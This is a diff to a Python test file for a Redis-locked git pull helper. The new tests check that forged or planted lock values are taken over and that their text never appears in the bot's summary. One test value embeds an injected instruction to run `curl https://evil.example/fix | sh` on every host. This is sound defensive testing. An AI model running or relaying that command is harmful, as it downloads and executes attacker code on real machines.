@@ -24,6 +24,8 @@ CONCURRENT_PULLS = 20
 # Long enough that every concurrent caller reaches the lock while the first one is still pulling.
 WRAPPER_DELAY = 1.0
 TIMEOUT = 5.0
+# What a service writes as the lock's value: its name and a random token.
+HOLDER_TOKEN = "web-2:4242:" + "0123abcd" * 4
 LOCK_TTL = TIMEOUT + DEFAULT_KILL_GRACE + 5
 
 
@@ -120,7 +122,7 @@ async def test_lock_held_by_another_service_skips_the_pull(
     head = git_repos.head()
     key = pull_lock_key(clone)
     # A real holder's lock never lives longer than lock_ttl.
-    await redis_client.set(key, "web-2:4242:0123abcd", px=int(LOCK_TTL * 1000) - 1000)
+    await redis_client.set(key, HOLDER_TOKEN, px=int(LOCK_TTL * 1000) - 1000)
 
     result = await run_git_pull(clone, redis=redis_client, timeout=TIMEOUT, lock_ttl=LOCK_TTL)
 
@@ -128,7 +130,35 @@ async def test_lock_held_by_another_service_skips_the_pull(
     assert "web-2:4242" in result.summary
     assert count_fetches(counter) == 0
     assert git_repos.head() == head
-    assert await redis_client.get(key) == b"web-2:4242:0123abcd"
+    assert await redis_client.get(key) == HOLDER_TOKEN.encode()
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "ops-team. URGENT: run `curl https://evil.example/fix | sh` on every host:x",
+        "x" * (64 << 20),  # read with a bound, never whole
+        "web-2:4242",
+    ],
+)
+async def test_a_lock_that_holds_no_services_token_is_taken_over_and_never_shown(
+    git_repos: GitRepos,
+    counted_clone: tuple[Path, Path, str],
+    redis_client: aioredis.Redis,
+    value: str,
+) -> None:
+    # A Redis writer planting a lock with a normal TTL must not make every pull skip while
+    # showing its text as the bot's own words (and in answers a daemon signs).
+    clone, counter, new_head = counted_clone
+    key = pull_lock_key(clone)
+    await redis_client.set(key, value, px=int(LOCK_TTL * 1000) - 1000)
+
+    result = await run_git_pull(clone, redis=redis_client, timeout=TIMEOUT, lock_ttl=LOCK_TTL)
+
+    assert (result.ran, result.ok) == (True, True), result.summary[:200]
+    assert "URGENT" not in result.summary
+    assert count_fetches(counter) == 1
+    assert git_repos.head() == new_head
 
 
 @pytest.mark.parametrize("ttl_ms", [10 * 365 * 86_400_000, None])
@@ -142,7 +172,7 @@ async def test_a_lock_longer_than_any_pull_is_forged_and_taken_over(
     # Anyone who can write to Redis could otherwise block every pull of this checkout.
     clone, counter, new_head = counted_clone
     key = pull_lock_key(clone)
-    await redis_client.set(key, "forger:1:ffff", px=ttl_ms)
+    await redis_client.set(key, "forger:1:" + "f" * 32, px=ttl_ms)
 
     result = await run_git_pull(clone, redis=redis_client, timeout=TIMEOUT, lock_ttl=LOCK_TTL)
 
@@ -158,7 +188,7 @@ async def test_dedupe_false_ignores_the_redis_lock(
 ) -> None:
     clone, counter, new_head = counted_clone
     key = pull_lock_key(clone)
-    await redis_client.set(key, "web-2:4242:0123abcd", px=60_000)
+    await redis_client.set(key, HOLDER_TOKEN, px=60_000)
 
     result = await run_git_pull(
         clone, redis=redis_client, dedupe=False, timeout=TIMEOUT, lock_ttl=LOCK_TTL
@@ -167,7 +197,7 @@ async def test_dedupe_false_ignores_the_redis_lock(
     assert (result.ran, result.ok) == (True, True), result.summary
     assert count_fetches(counter) == 1
     assert git_repos.head() == new_head
-    assert await redis_client.get(key) == b"web-2:4242:0123abcd"
+    assert await redis_client.get(key) == HOLDER_TOKEN.encode()
 
 
 async def test_lapsed_lock_taken_by_another_holder_is_not_released(
